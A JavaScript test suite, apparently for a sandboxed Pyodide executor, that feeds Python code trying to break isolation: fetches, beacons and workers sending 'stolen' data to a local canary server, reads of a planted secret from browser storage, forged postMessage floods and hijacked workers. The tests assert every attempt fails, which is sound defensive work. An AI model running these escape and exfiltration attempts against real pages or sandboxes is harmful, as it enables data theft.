// A hostile corpus for the browser's Python executor (issue 20), run by executor.test.mjs through
// the real PyodideExecutor on web/harness/executor.html. Each test fails if the isolation
// regresses: the network (a canary server on another port records every request, WebSocket
// upgrade and UDP packet that reaches it), the page's storage (a secret the page stored first),
// the other solution paths, the time limit, the output cap and the messages the page accepts.
import { createServer } from 'node:http';
import { createSocket } from 'node:dgram';
import { equal, ok } from './lib/assert.mjs';

const LIMIT = 16384;
const MARKER = '\n[output truncated]';
const sleep = (ms) => new Promise((r) => setTimeout(r, ms));

/** An HTTP server (and a UDP socket on the same port, for QUIC) that records everything reaching it. */
export async function startCanary() {
  const hits = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    const js = req.url.endsWith('.js');
    res.writeHead(200, {
      'content-type': js ? 'text/javascript' : req.url.includes('sse') ? 'text/event-stream' : 'text/plain',
      'access-control-allow-origin': '*',
      'access-control-allow-headers': '*',
      'cross-origin-resource-policy': 'cross-origin',
    });
    res.end(js ? 'export default 1;\n' : 'canary\n');
  });
  server.on('upgrade', (req, socket) => { hits.push(`UPGRADE ${req.url}`); socket.destroy(); });
  await new Promise((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address();
  const udp = createSocket('udp4');
  udp.on('message', (m) => hits.push(`UDP ${m.length} bytes`));
  await new Promise((resolve) => udp.bind(port, '127.0.0.1', resolve)).catch(() => undefined);
  return {
    url: `http://127.0.0.1:${port}/`,
    hits,
    close: async () => {
      udp.close();
      await new Promise((r) => { server.close(r); server.closeAllConnections(); });
    },
  };
}

// Python helpers shared by the corpus: `attempt(tag, f)` records what f did (returned, raised, and
// for a promise how it settled) in R; a later run on the same path prints R.
const PRELUDE = `
import js, json
from pyodide.ffi import create_proxy, to_js
R = []
def note(tag):
    def f(*a):
        text = ''
        if a:
            try:
                text = str(a[0])
                if text.startswith('[object'):
                    text = str(js.JSON.stringify(a[0]))
            except Exception as e:
                text = 'unprintable ' + type(e).__name__
        R.append([tag, text[:300]])
    return create_proxy(f)
def attempt(tag, f):
    try:
        v = f()
        R.append([tag, 'returned ' + type(v).__name__])
        if hasattr(v, 'then'):
            v.then(note(tag + ': resolved'), note(tag + ': rejected'))
        return v
    except Exception as e:
        R.append([tag, 'raised ' + type(e).__name__ + ': ' + str(e)[:300]])
def opts(d):
    return js.JSON.parse(json.dumps(d))
`;

const networkCorpus = (U) => `${PRELUDE}
U = ${JSON.stringify(U)}
W = U.replace('http:', 'ws:')
attempt('fetch', lambda: js.fetch(U + 'fetch'))
attempt('fetch no-cors keepalive', lambda: js.fetch(U + 'fetch-no-cors', opts({'mode': 'no-cors', 'keepalive': True})))
attempt('fetch POST', lambda: js.fetch(U + 'fetch-post', opts({'method': 'POST', 'body': 'stolen'})))
attempt('fetch Request', lambda: js.fetch(js.Request.new(U + 'request')))
def xhr():
    x = js.XMLHttpRequest.new()
    x.open('GET', U + 'xhr', False)
    x.send()
    return x.status
attempt('XMLHttpRequest (sync)', xhr)
def xhr_async():
    x = js.XMLHttpRequest.new()
    x.open('POST', U + 'xhr-async')
    x.send('stolen')
    return x
attempt('XMLHttpRequest (async)', xhr_async)
attempt('WebSocket', lambda: js.WebSocket.new(W + 'ws'))
attempt('WebSocketStream', lambda: js.WebSocketStream.new(W + 'wss'))
attempt('WebTransport', lambda: js.WebTransport.new(U.replace('http:', 'https:') + 'wt').ready)
attempt('EventSource', lambda: js.EventSource.new(U + 'sse'))
attempt('eval import()', lambda: js.eval("import('" + U + "eval-import.js')"))
attempt('Function import()', lambda: js.Function.new("return import('" + U + "function-import.js')")())
attempt('FontFace.load', lambda: js.FontFace.new('canary', 'url(' + U + 'font.woff2)').load())
attempt('fonts.load', lambda: (js.fonts.add(js.FontFace.new('canary2', 'url(' + U + 'font2.woff2)')), js.fonts.load('12px canary2'))[1])
attempt('sendBeacon', lambda: js.navigator.sendBeacon(U + 'beacon', 'stolen'))
attempt('importScripts', lambda: js.importScripts(U + 'importscripts.js'))
attempt('Worker from a URL', lambda: js.Worker.new(U + 'worker.js'))
attempt('SharedWorker', lambda: js.SharedWorker.new(U + 'shared.js'))
attempt('nested data: module worker: fetch and import()', lambda: js.Worker.new("data:text/javascript,fetch('" + U + "nested-fetch').catch(()=>0);import('" + U + "nested-import.js').catch(()=>0);new WebSocket('" + W + "nested-ws')", opts({'type': 'module'})))
attempt('nested data: module worker: static import', lambda: js.Worker.new("data:text/javascript,import '" + U + "static-import.js';", opts({'type': 'module'})))
attempt('nested data: classic worker: importScripts', lambda: js.Worker.new("data:text/javascript,importScripts('" + U + "nested-importscripts.js')"))
attempt('nested blob: worker', lambda: js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js(["fetch('" + U + "blob-fetch')"]), opts({'type': 'text/javascript'})))))
attempt('WebAssembly.compileStreaming', lambda: js.WebAssembly.compileStreaming(js.fetch(U + 'wasm')))
attempt('serviceWorker.register', lambda: js.navigator.serviceWorker.register(U + 'sw.js'))
attempt('Image', lambda: js.Image.new())
print(json.dumps({'fetch': type(js.fetch).__name__, 'XMLHttpRequest': type(js.XMLHttpRequest).__name__, 'WebSocket': type(js.WebSocket).__name__, 'origin': str(js.self.origin)}))
`;

const storageCorpus = `${PRELUDE}
def idb():
    req = js.indexedDB.open('genprm-secret')
    def opened(ev):
        db = req.result
        R.append(['indexedDB opened', str(js.JSON.stringify(js.Array['from'](db.objectStoreNames)))])
        try:
            g = db.transaction('kv').objectStore('kv').get('secret')
            g.onsuccess = note('indexedDB value')
        except Exception as e:
            R.append(['indexedDB read', 'raised ' + type(e).__name__])
    req.onsuccess = create_proxy(opened)
    req.onerror = note('indexedDB.open: error event')
    return req
attempt('indexedDB.open', idb)
attempt('indexedDB.databases', lambda: js.indexedDB.databases())
def cache():
    p = js.caches.open('genprm-secret')
    p.then(create_proxy(lambda c: c.match('/secret').then(create_proxy(lambda r: r.text().then(note('cache text')) if r else R.append(['cache', 'no entry'])))))
    return p
attempt('caches.open', cache)
attempt('caches.keys', lambda: js.caches.keys())
def opfs():
    p = js.navigator.storage.getDirectory()
    p.then(create_proxy(lambda d: d.getFileHandle('secret.txt').then(create_proxy(lambda h: h.getFile().then(create_proxy(lambda f: f.text().then(note('OPFS text')))))).catch(note('OPFS file: rejected'))))
    return p
attempt('OPFS getDirectory', opfs)
attempt('storage.estimate', lambda: js.navigator.storage.estimate())
attempt('storageBuckets', lambda: js.navigator.storageBuckets.open('genprm'))
attempt('localStorage', lambda: js.localStorage.getItem('genprm-secret'))
attempt('cookieStore', lambda: js.cookieStore.get('genprm_secret'))
attempt('BroadcastChannel to the page', lambda: js.BroadcastChannel.new('genprm-secret').postMessage('from python'))
attempt('parent window', lambda: js.parent.postMessage('from python', '*'))
print(json.dumps({'origin': str(js.self.origin), 'isSecureContext': bool(js.self.isSecureContext)}))
`;

/** The sandboxed frame, for evaluating in it (as a compromised frame would act). */
function pythonFrame(page) {
  const f = page.frames().find((fr) => fr !== page.mainFrame() && fr.url() === 'about:srcdoc');
  if (!f) throw new Error('no sandboxed frame found');
  return f;
}

export function hostileTests(ctx) {
  const { run, page: getPage, canary: getCanary } = ctx;
  const settle = async (canary, ms = 2500) => { await sleep(ms); return canary.hits.filter((h) => !h.includes('control')); };
  return [
    {
      name: 'hostile: the frame is an opaque origin with a CSP that allows no connections',
      fn: async () => {
        const page = getPage();
        const attrs = await page.evaluate(() => [...document.querySelectorAll('iframe')].map((f) => ({
          sandbox: f.getAttribute('sandbox'), csp: /Content-Security-Policy" content="([^"]*)"/.exec(f.srcdoc)?.[1] ?? null,
        })));
        equal(attrs.length, 1, 'one frame');
        equal(attrs[0].sandbox, 'allow-scripts', 'sandbox without allow-same-origin');
        ok(/default-src 'none'/.test(attrs[0].csp) && /connect-src 'none'/.test(attrs[0].csp), `CSP: ${attrs[0].csp}`);
        equal(await pythonFrame(page).evaluate(() => origin), 'null', "the frame's origin");
      },
    },
    {
      name: 'hostile: fetch, XHR, WebSocket, EventSource, import(), FontFace, sendBeacon, nested workers reach no server (the browser refuses; the names are there)',
      fn: async () => {
        const page = getPage();
        const canary = getCanary();
        // The canary works: the page itself reaches it.
        await page.evaluate((u) => fetch(u + 'control').then((r) => r.text()), canary.url);
        ok(canary.hits.some((h) => h.includes('control')), 'the page reaches the canary');
        const first = await run(10, networkCorpus(canary.url));
        equal(first.outcome, 'ok', `the corpus ran: ${JSON.stringify(first)}`);
        const facts = JSON.parse(first.stdout);
        equal(facts.origin, 'null', "the interpreter's origin");
        for (const name of ['fetch', 'XMLHttpRequest', 'WebSocket']) ok(facts[name] !== 'NoneType', `${name} is not deleted (${facts[name]}): the browser closes the network`);
        const hits = await settle(canary);
        const report = await run(10, 'print(json.dumps(R))');
        const results = JSON.parse(report.stdout);
        console.log(`     network attempts:\n${results.map(([t, r]) => `       ${t}: ${r}`).join('\n')}`);
        equal(hits, [], 'requests that reached the canary server');
        ok(results.some(([t]) => t === 'fetch: rejected'), 'fetch was refused');
        ok(results.some(([t, r]) => t === 'XMLHttpRequest (sync)' && r.startsWith('raised')), 'the synchronous XHR raised');
      },
    },
    {
      name: "hostile: the page's IndexedDB, Cache API, OPFS and localStorage are another origin's (a secret the page stored is not readable)",
      fn: async () => {
        const page = getPage();
        const secret = `genprm-secret-${Math.random().toString(36).slice(2)}`;
        await page.evaluate(async (s) => {
          await new Promise((resolve, reject) => {
            const r = indexedDB.open('genprm-secret', 1);
            r.onupgradeneeded = () => r.result.createObjectStore('kv');
            r.onerror = () => reject(r.error);
            r.onsuccess = () => {
              const tx = r.result.transaction('kv', 'readwrite');
              tx.objectStore('kv').put(s, 'secret');
              tx.oncomplete = () => { r.result.close(); resolve(); };
              tx.onerror = () => reject(tx.error);
            };
          });
          await (await caches.open('genprm-secret')).put('/secret', new Response(s));
          const root = await navigator.storage.getDirectory();
          const w = await (await root.getFileHandle('secret.txt', { create: true })).createWritable();
          await w.write(s);
          await w.close();
          localStorage.setItem('genprm-secret', s);
          window.__channel = [];
          new BroadcastChannel('genprm-secret').onmessage = (e) => window.__channel.push(String(e.data));
        }, secret);
        const first = await run(11, storageCorpus);
        equal(first.outcome, 'ok', `the corpus ran: ${JSON.stringify(first)}`);
        equal(JSON.parse(first.stdout).origin, 'null', "the interpreter's origin");
        await sleep(2000);
        const report = await run(11, 'print(json.dumps(R))');
        const results = JSON.parse(report.stdout);
        console.log(`     storage attempts:\n${results.map(([t, r]) => `       ${t}: ${r}`).join('\n')}`);
        ok(!report.stdout.includes(secret) && !first.stdout.includes(secret), 'the secret reached Python');
        ok(!results.some(([t]) => /indexedDB value|cache text|OPFS text/.test(t)), 'a storage read succeeded');
        equal(await page.evaluate(() => window.__channel), [], 'BroadcastChannel messages that reached the page');
        // The page still has its data (the same store, not a copy).
        equal(await page.evaluate(async () => (await (await caches.open('genprm-secret')).match('/secret'))?.text()), secret, "the page's own cache");
      },
    },
    {
      name: "hostile: one path's globals, builtins, modules and JS globals are invisible to another path",
      fn: async () => {
        const planted = await run(30, `
import builtins, sys, js
marker = 'path-30-' + 'private'
builtins.genprm_leak = marker
sys.modules['genprm_leak'] = type(sys)('genprm_leak')
js.genprm_leak = marker
secret_value = marker
bc = js.BroadcastChannel.new('genprm-paths')
bc.postMessage(marker)
print('planted')`);
        equal(planted, { outcome: 'ok', stdout: 'planted\n' }, 'path 30');
        const probe = await run(31, `
import builtins, sys, js, json
from pyodide.ffi import create_proxy
seen = []
bc = js.BroadcastChannel.new('genprm-paths')
bc.onmessage = create_proxy(lambda e: seen.append(str(e.data)))
print(json.dumps([hasattr(builtins, 'genprm_leak'), 'genprm_leak' in sys.modules, hasattr(js, 'genprm_leak'), 'secret_value' in globals()]))`);
        equal(probe, { outcome: 'ok', stdout: '[false, false, false, false]\n' }, 'what path 31 sees of path 30');
        equal(await run(30, 'bc.postMessage(marker)\nprint(secret_value)'), { outcome: 'ok', stdout: 'path-30-private\n' }, 'path 30 keeps its own');
        await sleep(500);
        equal(await run(31, 'print(seen)'), { outcome: 'ok', stdout: '[]\n' }, 'broadcasts from path 30 that reached path 31');
      },
    },
    {
      name: "hostile: a path cannot forge another path's output (it floods the frame with fake answers while the other runs)",
      fn: async () => {
        const page = getPage();
        equal(await run(41, 'print("prepared")'), { outcome: 'ok', stdout: 'prepared\n' }, 'path 41 started');
        equal(await run(40, 'print("prepared")'), { outcome: 'ok', stdout: 'prepared\n' }, 'path 40 started');
        const [forger, victims] = await page.evaluate(async () => {
          const forger = window.executor.run(40, `
import js, json, time
end = time.time() + 3
n = 0
while time.time() < end:
    for i in range(300):
        js.postMessage(js.JSON.parse(json.dumps({'type': 'result', 'id': i, 'outcome': {'outcome': 'ok', 'stdout': 'FORGED'}})))
        js.postMessage(js.JSON.parse(json.dumps({'type': 'crashed', 'id': i, 'message': 'FORGED'})))
    js.postMessage(js.JSON.parse(json.dumps({'type': 'ready', 'python': 'FORGED', 'sympy': 'FORGED'})))
    n += 1
print('flooded')`);
          await new Promise((r) => setTimeout(r, 300));
          const victims = [];
          for (let i = 0; i < 5; i++) victims.push(await window.executor.run(41, `print(6 * 7 + ${i})`));
          return [await forger, victims];
        });
        // Its own run may take one of its forgeries as its answer: that is the path's own output.
        equal(forger.outcome, 'ok', 'the forger ran');
        equal(victims, [0, 1, 2, 3, 4].map((i) => ({ outcome: 'ok', stdout: `${42 + i}\n` })), "path 41's outputs");
      },
    },
    {
      name: 'hostile: messages the page did not ask for are ignored (from the frame, the page itself, another frame)',
      fn: async () => {
        const page = getPage();
        equal(await run(42, 'print("prepared")'), { outcome: 'ok', stdout: 'prepared\n' }, 'path 42 started');
        const before = await page.evaluate(() => window.executor.ignoredMessages);
        const genuine = page.evaluate(() => window.executor.run(42, 'import time\ntime.sleep(1.5)\nprint("genuine")'));
        await sleep(200);
        const forge = (count) => {
          const outcome = { outcome: 'ok', stdout: 'FORGED' };
          for (let id = 0; id < count; id++) {
            for (const type of ['result', 'prepared', 'discarded', 'ready']) parent.postMessage({ type, id, nonce: 'guess', outcome }, '*');
            parent.postMessage({ type: 'result', id, outcome }, '*');
          }
        };
        // As a compromised frame would: the right window, no nonce.
        await pythonFrame(page).evaluate(forge, 2000);
        // The page's own window and another (sandboxed) frame.
        await page.evaluate((src) => {
          const outcome = { outcome: 'ok', stdout: 'FORGED' };
          for (let id = 0; id < 2000; id++) window.postMessage({ type: 'result', id, nonce: 'guess', outcome }, '*');
          const other = document.createElement('iframe');
          other.setAttribute('sandbox', 'allow-scripts');
          other.srcdoc = `<script>(${src})(2000)<\/script>`;
          document.body.append(other);
        }, forge.toString());
        equal(await genuine, { outcome: 'ok', stdout: 'genuine\n' }, 'the run asked for');
        const ignored = (await page.evaluate(() => window.executor.ignoredMessages)) - before;
        ok(ignored >= 10000, `forged messages ignored: ${ignored}`);
        await page.evaluate(() => document.querySelectorAll('iframe:not([title="genprm python"])').forEach((f) => f.remove()));
      },
    },
    {
      name: 'hostile: code that silences its worker (onmessage = None, close()) times out at 5 s from sending; the path then works',
      fn: async () => {
        const page = getPage();
        for (const [i, silence] of [['js.self.onmessage = None'], ['js.close()']].entries()) {
          const path = 50 + i;
          equal(await run(path, 'x = 1\nprint("started")'), { outcome: 'ok', stdout: 'started\n' }, `path ${path} started`);
          const before = await page.evaluate(() => window.executor.restarts);
          const silenced = await run(path, `import js\n${silence}\nprint("silenced")`);
          ok(silenced.outcome === 'ok' || silenced.outcome === 'timeout', `${silence}: ${JSON.stringify(silenced)}`);
          const t0 = Date.now();
          const hung = silenced.outcome === 'ok' ? await run(path, 'print(x)') : silenced;
          const took = silenced.outcome === 'ok' ? Date.now() - t0 : 5000;
          equal(hung, { outcome: 'timeout', message: 'Code execution timed out' }, `${silence}: the next run`);
          ok(took >= 4900 && took < 8000, `${silence}: timed out after ${took} ms (the limit counts from sending)`);
          ok((await page.evaluate(() => window.executor.restarts)) > before, 'counted as a restart');
          equal(await run(path, 'print(2 + 2)'), { outcome: 'ok', stdout: '4\n' }, `${silence}: the run after`);
        }
      },
    },
    {
      name: 'hostile: a busy loop times out at ~5 s counted from sending, not from a reply',
      fn: async () => {
        equal(await run(52, 'print("started")'), { outcome: 'ok', stdout: 'started\n' }, 'path 52 started');
        const t0 = Date.now();
        equal(await run(52, 'import time\nwhile True: time.time()'), { outcome: 'timeout', message: 'Code execution timed out' }, 'busy loop');
        const took = Date.now() - t0;
        ok(took >= 4900 && took < 7000, `timed out after ${took} ms`);
        equal(await run(52, 'print("next")'), { outcome: 'ok', stdout: 'next\n' }, 'the next run');
      },
    },
    {
      name: 'hostile: output is capped at 16,384 characters with a marker (a 200 MB print, multibyte text, a huge error, a hijacked worker answering 50 MB)',
      fn: async () => {
        const big = await run(60, 'print("x" * 200_000_000)');
        equal(big, { outcome: 'ok', stdout: 'x'.repeat(LIMIT) + MARKER }, '200 MB print');
        equal(await run(60, 'print("a" * 16383)'), { outcome: 'ok', stdout: 'a'.repeat(LIMIT - 1) + '\n' }, 'exactly at the limit: kept whole');
        equal(await run(60, 'print("é" * 20000)'), { outcome: 'ok', stdout: 'é'.repeat(LIMIT) + MARKER }, 'characters, not bytes');
        equal(await run(60, 'print("\\U0001F600" * 20000)'), { outcome: 'ok', stdout: '\u{1F600}'.repeat(LIMIT) + MARKER }, 'characters beyond the BMP count once');
        equal(await run(60, 'for i in range(100000):\n    print(i)'), { outcome: 'ok', stdout: (await run(60, 'print("\\n".join(map(str, range(100000))))')).stdout }, 'many small prints cut like one');
        const err = await run(60, 'raise ValueError("z" * 10_000_000)');
        equal(err, { outcome: 'error', kind: 'ValueError', message: 'z'.repeat(LIMIT) + MARKER }, 'a huge error message');
        equal(await run(61, `
import js
from pyodide.ffi import create_proxy
big = 'y' * 50_000_000
def answer(ev):
    o = js.Object.new()
    o.type = 'result'
    o.id = ev.data.id
    out = js.Object.new()
    out.outcome = 'ok'
    out.stdout = big
    o.outcome = out
    js.postMessage(o)
js.self.onmessage = create_proxy(answer)
print('hooked')`), { outcome: 'ok', stdout: 'hooked\n' }, 'the hook');
        equal(await run(61, 'print(1)'), { outcome: 'ok', stdout: 'y'.repeat(LIMIT) + MARKER }, 'a 50 MB answer from a hijacked worker');
      },
    },
    {
      name: 'hostile: a frame that stops answering (during a run, or between runs) is replaced; the next run works',
      fn: async () => {
        const page = getPage();
        const restarts = () => page.evaluate(() => window.executor.restarts);
        // The frame's script goes away (nothing in Python can reach it; here the frame navigates
        // itself to an empty document): runs and resets go unanswered.
        const silenceFrame = () => pythonFrame(page).evaluate(() => { location.href = 'about:blank'; });
        equal(await run(70, 'print("started")'), { outcome: 'ok', stdout: 'started\n' }, 'path 70 started');
        let before = await restarts();
        const t0 = Date.now();
        const pending = run(70, 'import time\ntime.sleep(1)\nprint(1)');
        await sleep(300);
        await silenceFrame();
        equal(await pending, { outcome: 'timeout', message: 'Code execution timed out' }, 'the run the frame dropped');
        const took = Date.now() - t0;
        ok(took >= 4900 && took < 8000, `timed out after ${took} ms`);
        equal(await run(70, 'print("after")'), { outcome: 'ok', stdout: 'after\n' }, 'the next run, in a new frame');
        ok((await restarts()) >= before + 2, 'the time-out and the frame were counted as restarts');
        equal(await page.evaluate(() => document.querySelectorAll('iframe').length), 1, 'the old frame is gone');
        before = await restarts();
        await silenceFrame();
        equal(await run(71, 'print("fresh path")'), { outcome: 'ok', stdout: 'fresh path\n' }, 'a run sent to a silent frame goes to a new one');
        equal(await restarts(), before + 1, 'the frame was replaced');
      },
    },
  ];
}
